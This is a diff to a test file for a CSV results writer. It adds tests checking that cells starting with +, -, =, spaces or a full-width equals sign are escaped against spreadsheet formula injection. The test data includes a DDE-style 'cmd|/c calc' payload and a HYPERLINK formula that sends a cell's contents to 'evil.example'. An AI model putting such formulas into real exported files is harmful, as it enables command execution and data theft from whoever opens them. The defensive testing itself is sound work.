@@ -14,7 +14,25 @@ describe('results file', () => {
   it('defuses cells a spreadsheet would run as formulas', () => {
     expect(csvCell('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"');
     expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
-    expect(csvCell('+* ******0100', false)).toBe('+* ******0100');
+  });
+
+  it('guards every cell: masked numbers starting with +, rejected phone cells, leading spaces and full-width signs', () => {
+    expect(csvCell('+* ******0100')).toBe("'+* ******0100");
+    expect(csvCell('-2+3')).toBe("'-2+3");
+    expect(csvCell(' =1+1')).toBe("' =1+1");
+    expect(csvCell('\uff1dcmd|"/c calc"!A1')).toBe('"\'\uff1dcmd|""/c calc""!A1"');
+    // A rejected row keeps what the file had in its phone cell (masked digits only): it must not run either.
+    const rejected = resultLine({
+      line: 3,
+      user: 'a@b.com',
+      maskedPhone: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      state: 'done',
+      status: 'failed',
+      action: 'none',
+      reason: '+ not a phone number',
+    });
+    expect(rejected.split(',').slice(2).join(',')).toMatch(/^"'=HYPERLINK/);
+    expect(rejected).toContain("'+ not a phone number");
   });
 
   it('writes one line per row with the masked number', () => {
@@ -28,7 +46,7 @@ describe('results file', () => {
         action: 'add mobile',
         reason: '',
       }),
-    ).toBe('7,a@b.com,+* ******0100,created,add mobile,\r\n');
+    ).toBe("7,a@b.com,'+* ******0100,created,add mobile,\r\n");
   });
 
   it('says what is wrong with a rejected file and where', () => {
